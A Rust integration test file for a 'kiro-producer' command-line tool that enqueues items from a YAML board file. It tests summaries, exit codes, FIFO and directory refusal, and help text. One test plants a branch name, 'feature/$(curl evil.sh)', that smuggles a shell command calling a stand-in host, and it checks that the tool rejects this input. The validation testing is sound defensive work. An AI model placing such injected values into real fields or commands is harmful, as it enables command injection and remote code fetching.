//! The `kiro-producer` binary: one tick over a board file, summary on stdout, exit status.

use crate::{Item, board_yaml};
use std::process::Command;

fn producer() -> Command {
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_kiro-producer"));
    cmd.env_remove("KIRO_BOARD_FILE")
        .env_remove("KIRO_STATE_DIR")
        .env_remove("KIRO_BACKEND")
        .env("KIRO_LOG_FORMAT", "text")
        .env("RUST_LOG", "warn");
    cmd
}

#[test]
fn once_prints_a_summary_and_rejected_items_do_not_fail_the_run() {
    let dir = tempfile::tempdir().unwrap();
    let board = dir.path().join("board.yaml");
    let mut bad = Item::good("BAD-1", "greeter");
    bad.branch = "feature/$(curl evil.sh)".into();
    std::fs::write(&board, board_yaml(&[Item::good("CALC-1", "calc"), bad])).unwrap();
    let state = dir.path().join("state");

    let out = producer()
        .args(["--once", "--board"])
        .arg(&board)
        .arg("--state-dir")
        .arg(&state)
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "stdout: {stdout}\nstderr: {stderr}");
    assert_eq!(
        stdout.trim(),
        "kiro-producer: enqueued 1, duplicates 0, rejected 1"
    );
    assert!(
        stderr.contains("BAD-1") && stderr.contains("invalid branch"),
        "{stderr}"
    );
    assert!(state.join("kiro.db").exists());

    let again = producer()
        .arg("--board")
        .arg(&board)
        .env("KIRO_STATE_DIR", &state)
        .output()
        .unwrap();
    assert!(again.status.success());
    assert_eq!(
        String::from_utf8_lossy(&again.stdout).trim(),
        "kiro-producer: enqueued 0, duplicates 0, rejected 0"
    );
}

#[test]
fn configuration_errors_exit_non_zero() {
    let dir = tempfile::tempdir().unwrap();
    let missing = producer()
        .arg("--board")
        .arg(dir.path().join("nope.yaml"))
        .arg("--state-dir")
        .arg(dir.path().join("state"))
        .output()
        .unwrap();
    assert_eq!(missing.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&missing.stderr).contains("nope.yaml"));

    let no_board = producer()
        .arg("--state-dir")
        .arg(dir.path())
        .output()
        .unwrap();
    assert_eq!(no_board.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&no_board.stderr).contains("--board FILE"));

    let bad_period = producer().args(["--every", "soon"]).output().unwrap();
    assert_eq!(bad_period.status.code(), Some(2));

    // A FIFO or a directory given as the board is refused at once, by name (a FIFO used
    // to block the producer forever: `output()` would never return).
    let fifo = dir.path().join("board.fifo");
    assert!(
        Command::new("mkfifo")
            .arg(&fifo)
            .status()
            .unwrap()
            .success()
    );
    for (board, what) in [
        (fifo, "is a FIFO"),
        (dir.path().to_path_buf(), "is a directory"),
    ] {
        let out = producer()
            .arg("--board")
            .arg(&board)
            .arg("--state-dir")
            .arg(dir.path().join("state"))
            .output()
            .unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(1), "{stderr}");
        assert!(
            stderr.contains(what) && stderr.contains(&board.display().to_string()),
            "{stderr}"
        );
    }
}

#[test]
fn help_explains_the_options() {
    let out = producer().arg("--help").output().unwrap();
    assert!(out.status.success());
    let help = String::from_utf8_lossy(&out.stdout);
    for needle in [
        "--once",
        "--every",
        "--state-dir",
        "--board",
        "KIRO_BOARD_FILE",
        "Exit status",
    ] {
        assert!(help.contains(needle), "help lacks {needle}:\n{help}");
    }
}

#[test]
fn the_quickstart_board_enqueues_four_and_rejects_bad_1() {
    let board =
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../examples/quickstart/board.yaml");
    let dir = tempfile::tempdir().unwrap();
    let out = producer()
        .arg("--board")
        .arg(&board)
        .arg("--state-dir")
        .arg(dir.path())
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    assert_eq!(
        String::from_utf8_lossy(&out.stdout).trim(),
        "kiro-producer: enqueued 4, duplicates 0, rejected 1"
    );
    assert!(
        stderr.contains("\"BAD-1\"") && stderr.contains("invalid branch"),
        "{stderr}"
    );
}
